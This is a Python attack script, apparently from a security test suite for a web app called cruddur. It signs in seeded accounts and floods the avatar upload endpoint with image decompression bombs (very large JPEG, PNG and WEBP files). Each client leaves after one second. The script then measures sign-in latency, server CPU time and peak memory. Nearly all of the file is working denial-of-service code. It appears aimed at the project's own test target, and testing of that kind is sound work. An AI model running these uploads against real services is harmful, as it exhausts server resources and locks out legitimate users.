"""Upload pictures that cost seconds to decode, leave before the answer, and watch the sign-ins."""

import asyncio
import contextlib
import os
import statistics
import time
from collections.abc import Callable
from pathlib import Path

import httpx
from PIL import Image

from attacks.target import Target
from cruddur.services.seed import PASSWORD
from pictures import file, jpeg_of_scans, png

MEMBERS = ("andrewbrown", "altbrown", "bayko", "londo")
SECONDS = 20
AT_ONCE = 8
STAY_SECONDS = 1.0
"""How long an uploading client waits before it leaves."""

BOMBS: tuple[Callable[[], bytes], ...] = (
    lambda: jpeg_of_scans(3500, 3500, 300),
    lambda: png(4096, 4096),
    lambda: file(Image.new("RGBA", (5000, 5000)), "WEBP", lossless=True),
    lambda: file(Image.new("RGB", (7000, 7000)), "JPEG", progressive=True),
)


async def attack(target: Target) -> str:
    """Return the responses to the uploads, their cost, and the duration of sign-ins."""
    bombs = [make() for make in BOMBS]
    processes = target.processes()
    before = sum(_cpu_seconds(pid) for pid in processes)
    responses: dict[str, int] = {}
    signins: list[float] = []
    peak = 0.0
    until = time.monotonic() + SECONDS

    async def upload(number: int) -> None:
        async with target.client() as http:
            body = {"email": MEMBERS[number % len(MEMBERS)], "password": PASSWORD}
            response = await http.post("/api/auth/signin", json=body)
            token = {"Authorization": f"Bearer {response.json()['access_token']}"}
            while time.monotonic() < until:
                address = await http.post(
                    "/api/avatars/key_upload", json={"extension": "jpg"}, headers=token
                )
                if address.status_code != 200:
                    seen = f"no address, {address.status_code},"
                    responses[seen] = responses.get(seen, 0) + 1
                    await asyncio.sleep(0.2)
                    continue
                url = httpx.URL(address.json()["url"]).path
                try:
                    put = http.put(url, content=bombs[number % len(bombs)])
                    seen = str((await asyncio.wait_for(put, STAY_SECONDS)).status_code)
                except TimeoutError:
                    seen = "left"
                except httpx.HTTPError as error:
                    seen = type(error).__name__
                responses[seen] = responses.get(seen, 0) + 1
                if seen in {"429", "503"}:
                    await asyncio.sleep(0.2)

    async def sign_in() -> None:
        async with target.client() as http:
            for number in range(int(SECONDS * 1.5)):
                if time.monotonic() > until:
                    break
                body = {"email": f"nobody{number}.{os.getpid()}@example.com", "password": "x" * 12}
                start = time.perf_counter()
                with contextlib.suppress(httpx.HTTPError):
                    await http.post("/api/auth/signin", json=body)
                signins.append((time.perf_counter() - start) * 1000)
                await asyncio.sleep(0.5)

    async def watch() -> None:
        nonlocal peak
        while time.monotonic() < until:
            everybody = processes + [child for pid in processes for child in _children(pid)]
            peak = max(peak, sum(map(_megabytes, everybody)))
            await asyncio.sleep(0.1)

    async with asyncio.TaskGroup() as group:
        for number in range(AT_ONCE):
            group.create_task(upload(number))
        group.create_task(sign_in())
        group.create_task(watch())
    quiet = time.monotonic()
    await sign_in_once(target)
    cpu = sum(_cpu_seconds(pid) for pid in processes) - before
    told = ", ".join(f"{count} x {seen}" for seen, count in sorted(responses.items()))
    return (
        f"uploads {told}; sign-in {statistics.median(signins):.0f} ms median, "
        f"{max(signins):.0f} ms at most, {1000 * (time.monotonic() - quiet):.0f} ms afterwards; "
        f"{cpu:.1f} s of CPU, {peak:.0f} MB at most"
    )


async def sign_in_once(target: Target) -> None:
    """Sign in when the attack is over."""
    async with target.client(timeout=httpx.Timeout(180)) as http:
        body = {"email": f"nobody.{os.getpid()}@example.com", "password": "x" * 12}
        await http.post("/api/auth/signin", json=body)


def _cpu_seconds(pid: int) -> float:
    """Return the CPU time of a process and of its ended children."""
    try:
        fields = Path(f"/proc/{pid}/stat").read_text().rpartition(")")[2].split()
    except OSError:
        return 0.0
    return float(sum(map(int, fields[11:15]))) / os.sysconf("SC_CLK_TCK")


def _children(pid: int) -> list[int]:
    try:
        return [
            int(child)
            for task in Path(f"/proc/{pid}/task").iterdir()
            for child in (task / "children").read_text().split()
        ]
    except OSError:
        return []


def _megabytes(pid: int) -> float:
    try:
        return int(Path(f"/proc/{pid}/statm").read_text().split()[1]) * 4096 / 1e6
    except (OSError, IndexError):
        return 0.0
